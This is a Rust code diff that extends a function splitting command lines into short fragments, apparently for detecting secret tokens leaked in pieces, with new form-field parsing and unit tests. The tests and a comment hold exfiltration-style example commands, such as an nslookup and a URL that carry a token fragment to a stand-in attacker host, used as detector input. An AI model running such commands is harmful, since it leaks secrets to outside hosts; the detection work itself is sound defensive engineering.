@@ -28,7 +28,16 @@ pub fn short_pieces(text: &str) -> Vec<String> {
         return Vec::new();
     }
     if t.chars().count() <= MAX_PIECE && !t.contains("://") {
-        return vec![t.to_owned()];
+        // `v=sk_li` (a form field, `-d v=...`): the value is the piece, not the name.
+        let values: Vec<String> = t
+            .split('&')
+            .map(|pair| match pair.split_once('=') {
+                Some((name, value)) if is_field_name(name) => value.to_owned(),
+                _ => pair.to_owned(),
+            })
+            .filter(|v| !v.is_empty())
+            .collect();
+        return values;
     }
     let mut out = Vec::new();
     // Host names in a command line (`nslookup sk_li.t.evil.example`): their first label.
@@ -72,6 +81,13 @@ pub fn short_pieces(text: &str) -> Vec<String> {
         }
     }
     out
+}
+
+/// A form or query field name (`v`, `data`, `api-key`), as opposed to text holding `=`.
+fn is_field_name(name: &str) -> bool {
+    !name.is_empty()
+        && name.len() <= 16
+        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-' || b == b'[' || b == b']')
 }
 
 /// The destination a tail belongs to: the last two labels of the host (pieces to
@@ -141,6 +157,9 @@ mod tests {
         assert_eq!(short_pieces("nslookup sk_li.t.evil.example 8.8.8.8"), ["sk_li"]);
         assert_eq!(short_pieces("https://sk_li.t.evil.example/"), ["sk_li"]);
         assert_eq!(short_pieces("ve_51"), ["ve_51"]);
+        assert_eq!(short_pieces("v=e_51um"), ["e_51um"]);
+        assert_eq!(short_pieces("a=sk_&b=li"), ["sk_", "li"]);
+        assert_eq!(short_pieces("x==y"), ["=y"]);
         assert_eq!(short_pieces("curl https://x.example/a/b?p=1&q=umi2Y"), ["1", "umi2Y"]);
         assert!(short_pieces("a long sentence of prose that is longer than a piece").is_empty());
     }
